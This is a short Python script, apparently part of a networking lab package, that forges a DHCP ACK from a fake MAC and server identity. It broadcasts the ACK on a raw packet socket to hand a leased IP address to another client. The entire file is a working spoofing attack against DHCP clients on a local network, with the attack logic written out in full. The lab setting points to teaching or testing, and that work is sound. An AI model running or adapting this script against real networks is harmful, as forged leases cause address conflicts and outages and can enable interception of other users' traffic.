"""Give a leased address to another client, on the wire: `python -m ... INTERFACE IP CHADDR`."""

from __future__ import annotations

import sys
from ipaddress import IPv4Address

from lab.dhcp_wire import Kind, Message, Option, encode, mac
from lab.frames import Datagram, encode_datagram
from lab.packets import packet_socket

FORGER = mac(0x02000000F0F0)
SERVER = IPv4Address("10.1.0.99")
EVERYBODY = IPv4Address("255.255.255.255")


def main(interface: str, ip: str, chaddr: str) -> None:
    """Broadcast one ACK that no server of the network sent."""
    options = (
        (Option.SERVER_ID, SERVER.packed),
        (Option.LEASE_TIME, (600).to_bytes(4, "big")),
    )
    client = mac(bytes.fromhex(chaddr.replace(":", "")))
    ack = Message(Kind.ACK, 1, client, yiaddr=IPv4Address(ip), options=options)
    frame = encode_datagram(
        Datagram(FORGER, mac(b"\xff" * 6), SERVER, EVERYBODY, 67, 68, encode(ack))
    )
    packet_socket(interface).send(frame)


if __name__ == "__main__":
    main(*sys.argv[1:])
